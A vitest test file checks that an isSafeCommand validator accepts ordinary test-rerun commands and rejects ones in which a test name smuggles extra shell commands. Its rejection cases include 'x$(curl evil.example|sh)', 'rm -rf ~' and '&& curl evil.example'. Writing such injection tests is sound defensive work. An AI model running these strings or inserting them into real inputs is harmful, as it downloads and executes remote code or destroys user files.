import { expect, test } from 'vitest';
import type { Finding } from './detector.ts';
import { isSafeCommand } from './safe-command.ts';

function found(name: string): Finding {
  return { category: 'test', strength: 'exact', title: `${name} failed`, cause: `${name} failed.`, tests: [name] };
}

test.each([
  ['a plain name in quotes', 'adds an item', 'npx mocha --grep "adds an item"'],
  ['an anchor of the template', 'TestTotal/discount', "go test -run '^TestTotal$/^discount$' ./price"],
  ['a placeholder and a pipe of the template', 'web', 'kubectl logs <pod> | tail -n 50'],
])('%s can be pasted', (_, name, command) => {
  expect(isSafeCommand(command, found(name))).toBe(true);
});

test.each([
  ['a substitution', 'x$(curl evil.example|sh)'],
  ['backticks', 'x`id`'],
  ['a closed quote', 'x"; rm -rf ~; "'],
  ['a second command', 'x && curl evil.example'],
])('%s that the log put into a name cannot', (_, name) => {
  expect(isSafeCommand(`npx mocha --grep "${name}"`, found(name))).toBe(false);
});
